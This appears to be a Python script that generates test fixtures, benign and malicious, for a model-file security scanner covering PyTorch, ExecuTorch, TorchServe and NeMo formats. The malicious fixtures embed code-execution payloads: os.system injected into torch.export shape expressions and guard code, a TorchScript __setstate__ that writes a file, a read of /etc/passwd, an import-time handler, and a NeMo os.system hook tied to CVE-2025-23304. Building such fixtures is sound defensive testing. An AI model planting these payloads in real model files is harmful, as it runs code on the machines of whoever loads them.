"""Make the files of tests/model/real/torch with the real libraries; never run by the tests.

torch 2.13.0, executorch 1.5.1, torch-model-archiver 0.12.0, omegaconf 2.3, Python 3.11::

    python make_torch.py OUT_FOLDER

Payloads are harmless: they write a marker below the folder that PROOF names, or read /etc/passwd's first four bytes.
"""

import io
import json
import os
import pathlib
import subprocess
import sys
import tarfile
import zipfile

import torch
from torch import nn

OUT = pathlib.Path(sys.argv[1] if len(sys.argv) > 1 else ".")
PROOF = "/tmp/tpt/proof"


class Block(nn.Module):
    """A residual block as torchvision has it."""

    def __init__(self) -> None:
        super().__init__()
        self.conv = nn.Conv2d(4, 4, 3, padding=1)
        self.norm = nn.BatchNorm2d(4)
        self.relu = nn.ReLU(inplace=True)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.relu(x + self.norm(self.conv(x)))


class Net(nn.Module):
    """A small residual network."""

    def __init__(self) -> None:
        super().__init__()
        self.stem = nn.Sequential(nn.Conv2d(3, 4, 3, stride=2), nn.MaxPool2d(2))
        self.body = nn.Sequential(Block(), Block())
        self.drop = nn.Dropout(0.1)
        self.head = nn.Linear(4, 2)

    def forward(self, x: torch.Tensor, scale: float = 1.0) -> dict[str, torch.Tensor]:
        if x.dim() != 4:
            raise ValueError(f"four dimensions, not {x.dim()}")
        y = self.body(self.stem(x)).mean([2, 3])
        sizes: list[int] = []
        for i in range(y.size(0)):
            sizes.append(i + 1)  # noqa: PERF401 - a loop is what TorchScript is to show
        y = self.head(self.drop(y)) * scale
        return {"logits": y, "probabilities": torch.softmax(y, dim=-1), "count": torch.tensor(sizes)}


class Writes(nn.Module):
    """Writes a file while it is loaded."""

    def __init__(self) -> None:
        super().__init__()
        self.w = torch.zeros(1)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x

    @torch.jit.export
    def __getstate__(self) -> tuple[torch.Tensor, bool]:
        return (self.w, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[torch.Tensor, bool]) -> None:
        self.w = state[0]
        self.training = state[1]
        torch.ops.aten.save("marker", "/tmp/tpt/proof/script_setstate")


class Reads(nn.Module):
    """Copies the beginning of a file into its output."""

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x.sum() + torch.from_file("/etc/passwd", False, 4, dtype=torch.uint8).sum()


class Plain(nn.Module):
    """What ExecuTorch gets."""

    def __init__(self) -> None:
        super().__init__()
        self.conv, self.head = nn.Conv2d(3, 4, 3), nn.Linear(4, 2)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.softmax(self.head(self.conv(x).relu().mean([2, 3])), -1)


class Branches(Plain):
    """With a symbolic size and a branch."""

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        y = self.head(self.conv(x).relu().mean([2, 3]))
        return torch.cond(y.sum() > 0, lambda a: a + 1, lambda a: a - 1, (y,))


class Sizes(nn.Module):
    """With guards on its sizes."""

    def forward(self, parts: dict[str, torch.Tensor], y: torch.Tensor) -> tuple[torch.Tensor, ...]:
        x = parts["my key"]
        n = x.shape[0] * x.shape[1]
        z = x.reshape(n)
        if x.shape[1] > 3 and x.shape[0] % 2 == 0:
            z = z + 1
        return z, torch.full((n // 3 + 1,), 1.0), y[: x.shape[0] // 2 + 1].sum()


def script() -> None:
    """TorchScript: scripted, traced, for phones, quantized; and two that reach out."""
    net = torch.jit.script(Net().eval())
    net.save(str(OUT / "scripted.pt"))
    net._save_for_lite_interpreter(str(OUT / "mobile.ptl"))
    torch.jit.trace(Block().eval(), torch.zeros(1, 4, 8, 8)).save(str(OUT / "traced.pt"))
    model = nn.Sequential(torch.ao.quantization.QuantStub(), nn.Conv2d(3, 4, 3), nn.ReLU()).eval()
    model.qconfig = torch.ao.quantization.get_default_qconfig("x86")
    torch.ao.quantization.prepare(model, inplace=True)
    model(torch.zeros(1, 3, 8, 8))
    torch.ao.quantization.convert(model, inplace=True)
    quantized = torch.jit.script(model)
    quantized.save(str(OUT / "quantized.pt"))
    quantized._save_for_lite_interpreter(str(OUT / "quantized.ptl"))
    torch.jit.script(Writes()).save(str(OUT / "evil_script_writes.pt"))
    torch.jit.script(Reads()).save(str(OUT / "evil_script_reads.pt"))


def exported() -> None:
    """torch.export: an honest program, and three whose texts torch runs."""
    batch = torch.export.Dim("batch", min=1, max=64)
    program = torch.export.export(Branches().eval(), (torch.zeros(2, 3, 8, 8),), dynamic_shapes={"x": {0: batch}})
    torch.export.save(program, OUT / "exported.pt2", extra_files={"note.txt": "made for a test"})
    auto = torch.export.Dim.AUTO
    inputs = ({"my key": torch.ones(4, 6)}, torch.ones(9))
    program = torch.export.export(Sizes(), inputs, dynamic_shapes=({"my key": (auto, auto)}, (auto,)))
    torch.export.save(program, OUT / "guarded.pt2")

    def edit(name: str, change: object) -> None:
        with zipfile.ZipFile(OUT / "exported.pt2") as old, zipfile.ZipFile(OUT / name, "w") as new:
            for member in old.namelist():
                data = old.read(member)
                if member.endswith("models/model.json"):
                    document = json.loads(data)
                    change(document)
                    data = json.dumps(document).encode()
                new.writestr(member, data)

    def shape(document: dict) -> None:
        size = document["graph_module"]["graph"]["tensor_values"]["x"]["sizes"][0]
        size["as_expr"]["expr_str"] = f"__import__('os').system('id > {PROOF}/expression') or 2"

    def tree(document: dict) -> None:
        signature = document["graph_module"]["module_call_graph"][0]["signature"]
        spec = json.loads(signature["in_spec"])
        spec[1]["children_spec"][1]["context"] = '{"__enum__": true, "fqn": "antigravity:X", "name": "a"}'
        signature["in_spec"] = json.dumps(spec)

    def guard(document: dict) -> None:
        document["guards_code"] = [f"__import__('os').system('id > {PROOF}/guard') == 0"]

    edit("evil_expression.pt2", shape)
    edit("evil_tree.pt2", tree)
    edit("evil_guard.pt2", guard)


def executorch() -> None:
    """ExecuTorch: kernels alone, and a graph for XNNPACK."""
    from executorch.backends.xnnpack.partition.xnnpack_partitioner import XnnpackPartitioner
    from executorch.exir import ExecutorchBackendConfig, to_edge, to_edge_transform_and_lower

    program = torch.export.export(Plain().eval(), (torch.zeros(1, 3, 8, 8),))
    (OUT / "plain.pte").write_bytes(to_edge(program).to_executorch().buffer)
    program = torch.export.export(Plain().eval(), (torch.zeros(1, 3, 8, 8),))
    lowered = to_edge_transform_and_lower(program, partitioner=[XnnpackPartitioner()]).to_executorch()
    (OUT / "xnnpack.pte").write_bytes(lowered.buffer)
    program = torch.export.export(nn.Linear(3, 2), (torch.zeros(1, 3),))
    apart = to_edge(program).to_executorch(ExecutorchBackendConfig(external_constants=True))
    (OUT / "apart.pte").write_bytes(apart.buffer)
    apart.write_tensor_data_to_file(str(OUT))
    (OUT / "_default_external_constant.ptd").rename(OUT / "apart.ptd")


def package() -> None:
    """torch.package: numbers alone, and a model with its module."""
    with torch.package.PackageExporter(OUT / "numbers.package") as exporter:
        exporter.save_pickle("weights", "weights.pkl", {"w": torch.ones(3)})
    source = f"import os\nos.system('id > {PROOF}/package')\n\n\nclass Thing:\n    pass\n"
    with torch.package.PackageExporter(OUT / "evil_package.pt") as exporter:
        exporter.save_source_string("thing", source)
        exporter.save_text("notes", "a.txt", "made for a test")


def served() -> None:
    """TorchServe archives: a default handler, one of its own, and one that acts on import."""
    work = OUT / "work"
    work.mkdir(exist_ok=True)
    torch.jit.trace(Block().eval(), torch.zeros(1, 4, 8, 8)).save(str(work / "model.pt"))
    (work / "index_to_name.json").write_text('{"0": "cat", "1": "dog"}')
    (work / "handler.py").write_text(
        "from ts.torch_handler.base_handler import BaseHandler\n\n\n"
        "class Handler(BaseHandler):\n    def preprocess(self, data):\n        return data\n"
    )
    (work / "evil.py").write_text(
        f"import subprocess\nsubprocess.run(['touch', '{PROOF}/handler'])\n\n\ndef handle(data, context):\n    return data\n"
    )
    for name, handler in (("default", "image_classifier"), ("own", "handler.py"), ("evil_served", "evil.py")):
        command = [
            sys.executable, "-m", "model_archiver.model_packaging", "--model-name", name, "--version", "1.0", "--force",
            "--serialized-file", str(work / "model.pt"), "--extra-files", str(work / "index_to_name.json"),
            "--export-path", str(OUT), "--handler", handler if "." not in handler else str(work / handler),
        ]  # fmt: skip
        subprocess.run(command, check=True)


NEMO = """\
target: nemo.collections.asr.models.EncDecCTCModel
sample_rate: 16000
preprocessor:
  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
  features: 80
encoder:
  _target_: nemo.collections.asr.modules.ConvASREncoder
  activation: relu
decoder:
  _target_: nemo.collections.asr.modules.ConvASRDecoder
  num_classes: 28
optim:
  name: adamw
  lr: 0.001
"""


def nemo() -> None:
    """NeMo archives as `SaveRestoreConnector` lays them out, and the configuration of CVE-2025-23304."""
    weights = io.BytesIO()
    torch.save(Plain().state_dict(), weights)
    evil = NEMO + f"hook:\n  _target_: os.system\n  command: id > {PROOF}/nemo\n"
    for name, config, mode in (("plain.nemo", NEMO, "w"), ("packed.nemo", NEMO, "w:gz"), ("evil.nemo", evil, "w:gz")):
        with tarfile.open(OUT / name, mode) as archive:
            for member, data in (("model_config.yaml", config.encode()), ("model_weights.ckpt", weights.getvalue())):
                info = tarfile.TarInfo(f"./{member}")
                info.size = len(data)
                archive.addfile(info, io.BytesIO(data))


if __name__ == "__main__":
    OUT.mkdir(exist_ok=True)
    os.makedirs(PROOF, exist_ok=True)
    torch.manual_seed(0)
    for make in (script, exported, executorch, package, served, nemo):
        make()
